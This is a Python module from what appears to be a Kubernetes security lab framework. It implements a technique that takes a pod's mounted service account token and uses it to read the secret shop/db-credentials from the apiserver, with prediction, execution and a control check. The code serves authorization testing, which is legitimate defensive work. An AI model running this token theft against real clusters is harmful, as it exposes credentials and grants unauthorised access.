"""Read a secret with the service account token that is mounted in a pod.

The attacker needs a foothold in a pod. Kubernetes mounts a token of its service account there
unless the pod or the account turns that off. They call the apiserver with it and read a secret.
It stops if the pod has no token, or if its account may not read the secret.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.model.decision import Action
from labkit.model.workloads import token_caller, token_in
from labkit.techniques._lib.api.access import CHANNEL, api_url, may_all
from labkit.techniques._lib.api.ask import ask
from labkit.techniques._lib.machines.pod import find_pod, token_of, without_token
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    POD,
    SECRETS,
    Prediction,
    SentRequest,
    Technique,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

NAMESPACE, NAME = "shop", "web"
PATH = "/api/v1/namespaces/shop/secrets/db-credentials"
READ = Action("get", "secrets", namespace=NAMESPACE, name="db-credentials")


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the pod has a token, and what its account may do."""
    caller = token_caller(model.environment, NAMESPACE, NAME)
    if caller is None:
        return Prediction(False, (str(token_in(model.environment, NAMESPACE, NAME)),))
    return may_all(model, caller, [READ])


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the request for the secret, if the pod has a token."""
    caller = token_caller(model.environment, NAMESPACE, NAME)
    return [] if caller is None else [SentRequest(caller, READ)]


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Take the token from the pod shop/web, and ask for a secret with it."""
    secret = true_secret(lab, "shop", "db-credentials", "password")

    def proof(answer: Answer) -> str:
        if not secret.found_in(answer.body):
            raise ProbeError("the apiserver answered, but not with the secret")
        return f"with the token of {NAMESPACE}/{NAME}, read: {secret.proof}"

    def control() -> str:
        lab.api("GET", PATH)
        return "the administrator reads it on the same port"

    pod = find_pod(lab, NAMESPACE, NAME)
    token = token_of(lab, pod)
    if token is None:
        return without_token(lab, TECHNIQUE.name, foothold, NAMESPACE, NAME)
    return ask(
        lab,
        TECHNIQUE.name,
        foothold,
        api_url(lab, PATH),
        token=token,
        proof=proof,
        control=control,
    )


def _settings(env: Environment) -> list[Setting]:
    token = token_in(env, NAMESPACE, NAME)
    return [("the token in shop/web", token.value, str(token.source))]


TECHNIQUE = Technique(
    name="pod-token",
    title="Read secrets with the token of a pod",
    footholds=(POD,),
    grants=(SECRETS,),
    about=CHANNEL,
    properties=("authorization",),
    attack=("T1528", "T1552.007"),
    stride=("information disclosure", "elevation of privilege"),
    cwe=("CWE-250", "CWE-862"),
    sources=(
        "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/",
        "https://attack.mitre.org/techniques/T1528/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    settings=_settings,
)
